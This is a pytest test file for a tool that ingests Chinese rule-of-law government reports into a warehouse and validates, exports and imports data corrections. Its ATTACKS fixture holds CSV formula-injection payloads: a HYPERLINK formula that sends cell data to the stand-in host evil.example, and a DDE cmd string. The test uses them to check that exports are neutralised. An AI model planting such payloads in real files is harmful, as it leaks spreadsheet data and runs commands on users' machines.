"""Values no view can read never reach the warehouse, corrections are checked the same way however
they come in, the CSV files fazhi writes are safe to open in Excel, and a correction holds on a
report known only by its text. Every case is a real `fazhi` run on a real warehouse."""
from __future__ import annotations

import csv
import shutil
import uuid
from pathlib import Path

import pytest
from sqlalchemy import text

from conftest import SEEDS
from fazhi.research.csvcells import FORMULA_STARTS
from fazhi.warehouse import engine
from ingest.errors import EXIT_OK, EXIT_USAGE
from runs import fazhi, no_traceback

pytestmark = pytest.mark.db

RATE = "litigation.head_appearance_rate"
# The README's example query on fct_metric: every figure with its evidence.
README_QUERY = """select jurisdiction_name, indicator_code, value, unit, qualifier, scope, evidence
                  from marts.fct_metric where report_year = 2023 order by jurisdiction_name, indicator_code"""
HEAD = "2023年法治政府建设情况报告\n\n一、法治政府建设工作成效\n\n"
# A report fazhi can place nowhere and whose issuer it cannot name: only its text identifies it.
NOWHERE = HEAD + "2023年,办理行政复议案件69件,行政机关负责人出庭应诉率达到98%。\n"
HUGE = ("某县" + HEAD + f"2023年,全县办理行政复议案件{'9' * 309}件,受理法律援助案件{'1' + '0' * 399}件,"
        "行政机关负责人出庭应诉率达到97%。\n")
INGEST: dict[str, str] = {}   # what the module's `fazhi ingest` printed
ATTACKS = {"reason": '=HYPERLINK("http://evil.example/?"&A1,"点此核对")', "by": "=cmd|' /C calc'!A0"}


def rows(sql: str, **params) -> list[dict]:
    with engine().connect() as conn:
        return [dict(r) for r in conn.execute(text(sql), params).mappings()]


def ok(*args: str) -> str:
    run = fazhi(*args)
    no_traceback(run)
    assert run.returncode == EXIT_OK, run.stderr[-2000:]
    return " ".join((run.stdout + run.stderr).split())   # rich wraps lines at 80 columns


def refused(*args: str) -> list[str]:
    """A usage refusal: exit 2, no traceback; its lines."""
    run = fazhi(*args)
    no_traceback(run)
    assert run.returncode == EXIT_USAGE, (run.returncode, run.stderr[-2000:])
    return run.stderr.strip().splitlines()


def report_id(name: str) -> int:
    (row,) = rows("select report_id from core.report r join core.report_source s using (report_id) "
                  "where s.source_path like :p", p=f"%/{name}")
    return row["report_id"]


def corrections() -> int:
    return rows("select count(*) as n from core.correction")[0]["n"]


@pytest.fixture(scope="module")
def folder(fresh_schema, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("values")
    shutil.copy(SEEDS[0], path / "wulong.txt")    # 重庆市武隆区 2023: 出庭应诉率 98.76%, 法律援助 437件
    (path / "nowhere.txt").write_text(NOWHERE, encoding="utf-8")
    (path / "huge.txt").write_text(HUGE, encoding="utf-8")
    INGEST["said"] = ok("ingest", str(path))
    ok("dbt", "build")
    return path


def test_a_number_no_view_can_read_is_not_stored_and_the_report_says_so(folder):
    assert "huge.txt: figure not stored: reconsideration.handled" in INGEST["said"]
    huge = report_id("huge.txt")
    assert rows("select indicator_code, value from core.metric where report_id = :r", r=huge) == [
        {"indicator_code": RATE, "value": 97}]
    assert rows("select count(*) as n from core.metric where value >= 1e15")[0]["n"] == 0
    (warnings,) = [r["warnings"] for r in rows("select warnings from core.report where report_id = :r", r=huge)]
    named = [w for w in warnings if w.startswith("figure not stored")]
    assert len(named) == 2 and any("reconsideration.handled" in w and "309 digits" in w for w in named)
    assert any("legal_aid.cases" in w and "400 digits" in w for w in named)
    # Every view reads: the README's example, the panel and its export.
    assert {r["indicator_code"] for r in rows(README_QUERY)} >= {RATE, "legal_aid.cases"}
    assert rows("select count(*) as n from marts.indicator_panel_wide")[0]["n"] > 0
    ok("export", "panel", "--format", "csv", "--out", str(folder.parent / "panel.csv"))


def test_values_stored_before_the_rule_do_not_break_the_marts(folder):
    """A warehouse filled by an older fazhi: the 309-digit figure and a 1e400 correction it let in."""
    huge, nowhere = report_id("huge.txt"), report_id("nowhere.txt")
    text_hash = rows("select text_hash from core.report where report_id = :r", r=nowhere)[0]["text_hash"]
    with engine().begin() as conn:
        conn.execute(text("""insert into core.metric (report_id, measure_ordinal, indicator_code, value, unit, scope,
                             evidence, start_offset, end_offset, out_of_range)
                             select report_id, measure_ordinal, 'reconsideration.handled', :v, '件', scope, 'x', 1, 2,
                                    true
                             from core.metric where report_id = :r limit 1"""), {"r": huge, "v": "9" * 309})
        conn.execute(text("""insert into core.correction (correction_uid, action, text_hash, kind, indicator_code,
                             scope, value, unit, reason, corrected_by)
                             values (:u, 'set', :h, 'other', :i, 'jurisdiction', 1e400, '%', 'old import', 'x')"""),
                     {"u": str(uuid.uuid4()), "h": text_hash, "i": RATE})
    try:
        ok("dbt", "build")
        assert rows(README_QUERY)
        (rate,) = rows("select value from marts.fct_metric where report_id = :r and indicator_code = :i",
                       r=nowhere, i=RATE)
        assert rate["value"] == 98
    finally:
        with engine().begin() as conn:
            conn.execute(text("delete from core.metric where value >= 1e15"))
            conn.execute(text("delete from core.correction where reason = 'old import'"))


def exported(folder: Path, name: str) -> tuple[list[str], list[dict]]:
    out = folder.parent / name
    ok("corrections", "export", "--out", str(out))
    with out.open(encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames), list(reader)


def write_csv(path: Path, header: list[str], records: list[dict], encoding: str = "utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as f:
        writer = csv.DictWriter(f, header)
        writer.writeheader()
        writer.writerows(records)
    return path


def test_import_refuses_what_correct_refuses_and_names_every_bad_row(folder):
    wulong = str(report_id("wulong.txt"))
    assert "10^15" in refused("correct", wulong, RATE, "1e400", "--reason", "x")[0]
    ok("correct", wulong, RATE, "96.39", "--reason", "报告比率与出庭80件/开庭83件不符", "--by", "alice")
    header, (good,) = exported(folder, "one.csv")

    def row(**change) -> dict:
        return {**good, "correction_uid": str(uuid.uuid4()), **change}
    bad = {3: row(value="1e400"), 4: row(value="120"), 5: row(value="NaN"), 6: row(value="-5"),
           7: row(unit="件"), 8: row(indicator_code="reconsideration.handled", unit="", value="3.5"),
           9: row(extracted_value="1" + "0" * 400), 10: row(value="Infinity"), 11: row(value="1e-400")}
    rows_ = [row()] + list(bad.values()) + [row()]   # good rows around the bad ones: none is imported
    before = corrections()
    lines = refused("corrections", "import", str(write_csv(folder.parent / "bad.csv", header, rows_)))
    assert "nothing imported; 9 bad rows" in lines[0]
    assert [line.split(":")[0] for line in lines[1:]] == [f"row {n}" for n in bad]
    said = dict(line.split(": ", 1) for line in lines[1:])
    assert "10^15" in said["row 3"] and "plausible range" in said["row 4"] and "finite" in said["row 5"]
    assert "negative" in said["row 6"] and "unit" in said["row 7"] and "whole number" in said["row 8"]
    assert "10^15" in said["row 9"] and "finite" in said["row 10"] and "decimal places" in said["row 11"]
    assert corrections() == before
    # The same file without its bad rows imports.
    assert "2 added" in ok("corrections", "import", str(write_csv(folder.parent / "good.csv", header,
                                                                        [rows_[0], rows_[-1]])))


def test_exported_cells_never_start_a_formula_and_import_gives_them_back(folder):
    wulong = str(report_id("wulong.txt"))
    ok("correct", wulong, "legal_aid.cases", "--delete", "--reason", ATTACKS["reason"], "--by", ATTACKS["by"])
    ok("correct", wulong, RATE, "96.4", "--reason", "-含上年结转; 'quoted", "--by", "@bob")
    header, records = exported(folder, "attacks.csv")
    raw = (folder.parent / "attacks.csv").read_text(encoding="utf-8-sig")
    for record in csv.reader(raw.splitlines()):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in record), record
    assert {r["reason"] for r in records} >= {"'" + ATTACKS["reason"], "'-含上年结转; 'quoted"}
    assert {r["corrected_by"] for r in records} >= {"'" + ATTACKS["by"], "'@bob"}
    assert {r["value"] for r in records} >= {"96.39", "96.4"}   # numbers, not neutralised

    original = rows("select correction_uid, reason, corrected_by, value from core.correction order by 1")
    with engine().begin() as conn:
        conn.execute(text("delete from core.correction"))
    ok("corrections", "import", str(folder.parent / "attacks.csv"))
    assert rows("select correction_uid, reason, corrected_by, value from core.correction order by 1") == original


def test_a_file_that_is_not_utf8_csv_is_refused_in_one_line(folder):
    header, records = exported(folder, "all.csv")
    assert any("武隆" in (r["jurisdiction_name"] or "") for r in records)
    with engine().begin() as conn:
        conn.execute(text("delete from core.correction"))
    gbk = write_csv(folder.parent / "gbk.csv", header, records, encoding="gb18030")
    (line,) = refused("corrections", "import", str(gbk))
    assert "not UTF-8" in line and "nothing imported" in line
    big = write_csv(folder.parent / "big.csv", header, [{**records[0], "reason": "理由" * 2_500_000}])
    (line,) = refused("corrections", "import", str(big))
    assert "field larger than field limit" in line and "nothing imported" in line
    nul = write_csv(folder.parent / "nul.csv", header, [records[0], {**records[-1], "reason": "a\x00b"}])
    assert refused("corrections", "import", str(nul))[1:] == ["row 3: a cell contains a NUL character"]
    assert corrections() == 0


def test_a_correction_holds_on_a_report_known_only_by_its_text(folder):
    """No place and no issuer: only the text hash ties the correction to the report re-parsed."""
    first = report_id("nowhere.txt")
    assert rows("select jurisdiction_id, issuer from core.report where report_id = :r", r=first) == [
        {"jurisdiction_id": None, "issuer": None}]
    ok("correct", str(first), RATE, "96", "--reason", "出庭数/开庭数", "--by", "erin")
    ok("ingest", "--reparse", str(folder / "nowhere.txt"))
    again = report_id("nowhere.txt")
    assert again != first
    ok("dbt", "build")
    (rate,) = rows("select value, extracted_value, corrected_by from marts.fct_metric "
                   "where report_id = :r and indicator_code = :i", r=again, i=RATE)
    assert rate == {"value": 96, "extracted_value": 98, "corrected_by": "erin"}
